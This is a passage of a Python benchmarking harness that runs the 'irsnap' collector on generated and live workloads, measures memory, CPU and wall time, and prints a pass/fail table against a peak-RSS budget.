        err_tail = f.read()[-2000:].decode("utf-8", "replace").strip().splitlines()[-1:]
    archive = summary.get("archive")
    if archive and not os.path.isabs(archive):
        archive = os.path.join(out_dir, archive)
    collectors = summary.get("collectors", [])
    return {
        "peak_rss_mib": m["maxrss_kib"] / 1024.0,  # ru_maxrss is KiB on Linux
        "sampled_rss_mib": m["sampled_kib"] / 1024.0,
        "floor_mib": m["floor_kib"] / 1024.0,
        "cpu_s": m["utime"] + m["stime"],
        "user_s": m["utime"],
        "sys_s": m["stime"],
        "wall_s": m["wall"],
        "exit_code": code,
        "status": m["killed"] or summary.get("status") or (f"signal {-code}" if code < 0 else f"exit {code}"),
        "records": sum(c.get("records", 0) for c in collectors),
        "archive": archive,
        "archive_mib": os.path.getsize(archive) / MIB if archive and os.path.exists(archive) else None,
        "collectors": {c["id"]: {k: c.get(k) for k in ("status", "records", "files", "duration_ms", "warning_count", "error_count", "reason")} for c in collectors if "id" in c},
        "stderr": err_tail[0] if err_tail else "",
    }


# ----------------------------------------------------------------------------------------------
# Rows and the table.


def median(xs):
    xs = [x for x in xs if x is not None]
    return statistics.median(xs) if xs else None


def make_row(load: Load, label: str, binary: str, runs: list[dict], extra: dict, args) -> dict:
    ok_exit = all(r["exit_code"] in (0, 2) for r in runs)
    peak_max = max(r["peak_rss_mib"] for r in runs)
    last = runs[-1]
    notes = list(extra.get("notes", []))
    for cid, c in last["collectors"].items():
        if c.get("status") not in ("ok", "skipped"):
            reason = (c.get("reason") or "").replace("\n", " ")
            reason = f": {reason[:100]}{'…' if len(reason) > 100 else ''}" if reason else ""
            counts = f"{c.get('error_count') or 0} err, {c.get('warning_count') or 0} warn"
            notes.append(f"{cid} {c.get('status')} ({counts}){reason}")
    for r in runs:
        if r["status"].startswith("killed") and r["status"] not in notes:
            notes.append(r["status"])
    if not ok_exit and last["stderr"]:
        notes.append("stderr: " + last["stderr"][:120])
    if any(r["peak_rss_mib"] - r["floor_mib"] < 1.0 for r in runs):
        notes.append("peak RSS at the measuring helper's floor (floor_mib)")
    return {
        "load": load.name,
        "binary": label,
        "binary_path": binary,
        "runs": len(runs),
        "peak_rss_mib": round(median(r["peak_rss_mib"] for r in runs), 1),
        "peak_rss_mib_max": round(peak_max, 1),
        "cpu_s": round(median(r["cpu_s"] for r in runs), 3),
        "wall_s": round(median(r["wall_s"] for r in runs), 3),
        "records": last["records"],
        "status": "/".join(sorted({r["status"] for r in runs})),
        "exit_codes": [r["exit_code"] for r in runs],
        "archive_mib": None if median(r["archive_mib"] for r in runs) is None else round(median(r["archive_mib"] for r in runs), 2),
        "max_rss_mib": args.max_rss_mib,
        "pass": ok_exit and peak_max <= args.max_rss_mib,
        "notes": notes,
        "check": extra.get("check"),
        "gen_s": extra.get("gen_s"),
        "load_s": extra.get("load_s"),
        "facts": extra.get("facts", {}),
        "collectors": last["collectors"],
        "per_run": [{k: (round(v, 3) if isinstance(v, float) else v) for k, v in r.items() if k not in ("collectors", "archive", "stderr")} for r in runs],
    }


def fmt(v, spec=".1f"):
    return "—" if v is None else format(v, spec)


def print_table(rows: list[dict], args) -> None:
    with_binary = any(r["binary"] != "candidate" for r in rows)
    head = ["load"] + (["binary"] if with_binary else []) + [
        "runs", "peak RSS MiB (median)", "CPU s", "wall s", "records", "status", "archive MiB",
        f"RSS ≤ {args.max_rss_mib:g} MiB", "notes"]
    print("| " + " | ".join(head) + " |")
    print("|" + "|".join(" --- " for _ in head) + "|")
    for r in rows:
        cells = [r["load"]] + ([r["binary"]] if with_binary else []) + [
            str(r["runs"]), fmt(r["peak_rss_mib"]), fmt(r["cpu_s"], ".2f"), fmt(r["wall_s"], ".2f"),
            f"{r['records']:,}", r["status"], fmt(r["archive_mib"]), "PASS" if r["pass"] else "FAIL",
            "; ".join(r["notes"]).replace("|", "\\|")]
        print("| " + " | ".join(cells) + " |")
    sys.stdout.flush()


# ----------------------------------------------------------------------------------------------
# Driving it.


TEMP_PLACES = ["/tmp", "/var/tmp", "/dev/shm", "/run/user"]


def under_temp_place(path: str) -> bool:
    real = os.path.realpath(path)
    places = TEMP_PLACES + glob.glob("/home/*/Downloads") + ["/root/Downloads"]
    return any(real == p or real.startswith(p.rstrip("/") + "/") for p in map(os.path.realpath, places))


def prepare_offline(load: Load, args, work: str) -> tuple[str, dict, float]:
    """The cached root of `load` (generating it when missing or stale): root, facts, gen seconds."""
    base = os.path.join(work, load.name)
    root = os.path.join(base, "root")
    stamp_path = os.path.join(base, "stamp.json")
    want = {"version": GEN_VERSION, "params": gen_params(load, args)}
    if not args.regenerate:
        with contextlib.suppress(OSError, ValueError):
            with open(stamp_path) as f:
                stamp = json.load(f)
            fresh = time.time() - stamp.get("created", 0) < CACHE_MAX_AGE_S
            if fresh and {k: stamp.get(k) for k in want} == want and os.path.isdir(root):
                log(f"  {load.name}: cached root {root} ({stamp['files']:,} files, {stamp['mib']:.0f} MiB)")
                return root, stamp.get("facts", {}), 0.0
    with contextlib.suppress(FileNotFoundError):
        os.remove(stamp_path)
    shutil.rmtree(root, ignore_errors=True)
    log(f"  {load.name}: generating {root} ...")
    t0 = time.perf_counter()
    t = Tree(root)
    facts = load.gen(t, args) or {}
    t.done()
    gen_s = time.perf_counter() - t0
    facts = {"files": t.files, "mib": round(t.bytes / MIB, 1), **facts}
    with open(stamp_path, "w") as f:
        json.dump({**want, "created": time.time(), "files": t.files, "mib": t.bytes / MIB, "facts": facts}, f)
    log(f"  {load.name}: generated {t.files:,} files, {t.bytes / MIB:.0f} MiB in {gen_s:.1f} s")
    return root, facts, gen_s


def select_loads(only: str | None) -> list[Load]:
    if not only:
        return list(LOADS)
    pats = [p.strip() for p in only.split(",") if p.strip()]
    chosen = [ld for ld in LOADS if any(fnmatch.fnmatchcase(ld.name, p) for p in pats)]
    unknown = [p for p in pats if not any(fnmatch.fnmatchcase(ld.name, p) for ld in LOADS)]
    if unknown:
        sys.exit(f"unknown load(s): {', '.join(unknown)}; loads: {', '.join(ld.name for ld in LOADS)}")
    return chosen


def resolve_binary(path: str | None, what: str) -> str:
    if path is None:
        path = os.path.join(REPO, "target", "release", "irsnap")
        if not os.access(path, os.X_OK):
            log(f"no {path}: cargo build --release")
            subprocess.run(["cargo", "build", "--release"], cwd=REPO, check=True)
    path = os.path.abspath(path)
    if not os.access(path, os.X_OK):
        sys.exit(f"{what}: no executable at {path}")
    return path


def mem_total_mib() -> int:
    with contextlib.suppress(OSError, ValueError):
        return vm_meminfo_kib("MemTotal:") // 1024
    return 8192


def vm_meminfo_kib(key: str) -> int:
    with open("/proc/meminfo") as f:
        for line in f:
            if line.startswith(key):
                return int(line.split()[1])
    raise ValueError(key)


def _rmdir(path: str) -> None:
    with contextlib.suppress(OSError):
        os.rmdir(path)


def raise_interrupt(signum, frame):
    raise KeyboardInterrupt


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--binary", help="irsnap to measure (default: target/release/irsnap of this checkout, built if missing)")
    ap.add_argument("--baseline-binary", help="also run this irsnap on every selected load, interleaved, and give ratios")
    ap.add_argument("--work", help="cache of generated roots (kept; default: a fresh temp dir, removed at the end)")
    ap.add_argument("--keep", action="store_true", help="keep the default temp work dir")
    ap.add_argument("--regenerate", action="store_true", help="rebuild cached roots")
    ap.add_argument("--runs", type=int, help="runs per load and binary (default 3; standard: 7)")
    ap.add_argument("--only", metavar="NAME[,NAME]", help="loads to run (shell patterns: 'history-*')")
    ap.add_argument("--list", action="store_true", help="list the loads and exit")
    ap.add_argument("--max-rss-mib", type=float, default=64, help="peak RSS budget for PASS (default 64)")
    ap.add_argument("--strict", action="store_true", help="exit 1 when any row FAILs")
    ap.add_argument("--json", action="store_true", help="one JSON object per row on stdout instead of the table")
    ap.add_argument("--history-mib", type=int, default=64, help="size of the history-2byte load (default 64)")
    ap.add_argument("--audit-mib", type=int, default=2048, help="size of the audit-2gb load's audit.log (default 2048)")
    ap.add_argument("--live-output", help="-o parent for the live loads, outside the temp dirs irsnap scans (default: WORK/live-out, or ~/.cache/irsnap-bench when WORK is in /tmp)")
    ap.add_argument("--kill-rss-mib", type=int, default=mem_total_mib() // 2, help="kill a run past this RSS (default: half the memory)")
    ap.add_argument("--timeout", type=float, default=1800, help="kill a run after this many seconds (default 1800)")
    ap.add_argument("--collect-arg", action="append", default=[], metavar="ARG", help="extra `irsnap collect` argument; repeatable (--collect-arg=--low-impact)")
    args = ap.parse_args()

    if args.list:
        for ld in LOADS:
            print(f"{ld.name:24} {ld.about}")
        return 0
    loads = select_loads(args.only)
    binary = resolve_binary(args.binary, "--binary")
    baseline = resolve_binary(args.baseline_binary, "--baseline-binary") if args.baseline_binary else None
    signal.signal(signal.SIGTERM, raise_interrupt)
    signal.signal(signal.SIGHUP, raise_interrupt)

    cleanup = contextlib.ExitStack()
    rows: list[dict] = []
    printed = False
    t_all = time.perf_counter()
    try:
        with cleanup:
            if args.work:
                work = os.path.abspath(args.work)
                os.makedirs(work, exist_ok=True)
            else:
                work = tempfile.mkdtemp(prefix="irsnap-bench-")
                if args.keep:
                    log(f"work dir (kept): {work}")
                else:
                    cleanup.callback(shutil.rmtree, work, ignore_errors=True)
                    cleanup.callback(log, f"removing {work} ... (--work DIR keeps the roots for next time)")
            live = [ld for ld in loads if ld.live]
            if live:
                live_out = args.live_output
                if live_out is None:
                    live_out = os.path.join(work, "live-out")
                    if under_temp_place(work):
                        live_out = os.path.join(os.path.expanduser("~"), ".cache", "irsnap-bench", f"live-out-{os.getpid()}")
                if under_temp_place(live_out):
                    sys.exit(f"--live-output {live_out} is where irsnap looks for staged files; choose another")
                missing = []
                d = os.path.abspath(live_out)
                while not os.path.exists(d):
                    missing.append(d)
                    d = os.path.dirname(d)
                os.makedirs(live_out, exist_ok=True)
                for d in reversed(missing):  # callbacks run innermost first: remove what this run made
                    cleanup.callback(lambda d=d: shutil.rmtree(d, ignore_errors=True) if d == missing[0] else _rmdir(d))
                cached = glob.glob(os.path.join(work, "*", "stamp.json"))
                if cached and under_temp_place(work):
                    log(f"warning: {len(cached)} generated root(s) under {work} are in a temp dir the live "
                        "loads scan; pass --work outside /tmp for representative live numbers")
            order = [ld for ld in loads if ld.live] + [ld for ld in loads if not ld.live]
            for n, load in enumerate(order, 1):
                runs_n = args.runs or load.default_runs
                log(f"[{n}/{len(order)}] {load.name}: {load.about}")
                t_load = time.perf_counter()
                with contextlib.ExitStack() as stack:
                    if load.live:
                        t0 = time.perf_counter()
                        facts = stack.enter_context(load.live(args, None))
                        gen_s = time.perf_counter() - t0
                        log(f"  {load.name}: set up in {gen_s:.1f} s: " + ", ".join(f"{k} {v}" for k, v in facts.items()))
                        collect_args = list(load.collect_args)
                        out_base = os.path.join(live_out, load.name)
                    else:
                        root, facts, gen_s = prepare_offline(load, args, work)
                        collect_args = ["--root", root] + load.collect_args
                        out_base = os.path.join(work, load.name)
                    collect_args += args.collect_arg
                    bins = [("candidate", binary)] + ([("baseline", baseline)] if baseline else [])
                    results = {label: [] for label, _ in bins}
                    checks = {label: [] for label, _ in bins}
                    for i in range(runs_n):
                        for label, path in (bins if i % 2 == 0 else bins[::-1]):
                            out_dir = os.path.join(out_base, f"out-{label}-{i}")
                            r = measure(path, collect_args, out_dir, args)
                            if load.check and r["archive"] and os.path.exists(r["archive"]):
                                checks[label].append(load.check(r["archive"]))
                            elif load.check:
                                checks[label].append(("no archive to check", False))
                            shutil.rmtree(out_dir, ignore_errors=True)
                            for suffix in (".stdout", ".stderr"):
                                with contextlib.suppress(FileNotFoundError):
                                    os.remove(out_dir + suffix)
                            results[label].append(r)
                            tag = f" [{label}]" if baseline else ""
                            arch = f", archive {r['archive_mib']:.1f} MiB" if r["archive_mib"] is not None else ""
                            log(f"  {load.name} run {i + 1}/{runs_n}{tag}: peak {r['peak_rss_mib']:.1f} MiB, "
                                f"CPU {r['cpu_s']:.2f} s, wall {r['wall_s']:.2f} s, exit {r['exit_code']} "
                                f"({r['status']}), {r['records']:,} records{arch}"
                                + (f"; {checks[label][-1][0]}" if load.check else ""))
                load_s = time.perf_counter() - t_load
                log(f"  {load.name}: {load_s:.1f} s in all (generation/set-up {gen_s:.1f} s)")
                new_rows = []
                for label, path in bins:
                    extra = {"gen_s": round(gen_s, 2), "load_s": round(load_s, 2), "facts": facts, "notes": []}
                    if checks[label]:
                        oks = [ok for _, ok in checks[label]]
                        extra["notes"].append(checks[label][-1][0] if len(set(oks)) == 1 else f"newest command kept in {sum(oks)}/{len(oks)} runs")
                        extra["check"] = all(oks)
                    new_rows.append(make_row(load, label, path, results[label], extra, args))
                if baseline:
                    cand, base = new_rows
                    vs = {k: round(cand[k] / base[k], 3) if base[k] else None for k in ("cpu_s", "wall_s", "peak_rss_mib")}
                    cand["vs_baseline"] = vs
                    cand["notes"].insert(0, f"vs baseline: CPU ×{fmt(vs['cpu_s'], '.2f')}, wall ×{fmt(vs['wall_s'], '.2f')}, "
                                            f"RSS ×{fmt(vs['peak_rss_mib'], '.2f')}")
                rows += new_rows
                if args.json:
                    for row in new_rows:
                        print(json.dumps(row), flush=True)
            log(f"done in {time.perf_counter() - t_all:.0f} s")
            if not args.json:  # before the clean-up: removing big roots takes a while
                print_table(sort_rows(rows), args)
                printed = True
    except KeyboardInterrupt:
        log("interrupted: cleaned up" + ("; the rows measured so far:" if rows and not printed and not args.json else ""))
        if rows and not printed and not args.json:
            print_table(sort_rows(rows), args)
        return 130
    return 1 if args.strict and not all(r["pass"] for r in rows) else 0


def sort_rows(rows: list[dict]) -> list[dict]:
    order = [ld.name for ld in LOADS]
    return sorted(rows, key=lambda r: order.index(r["load"]))


if __name__ == "__main__":
    sys.exit(main())
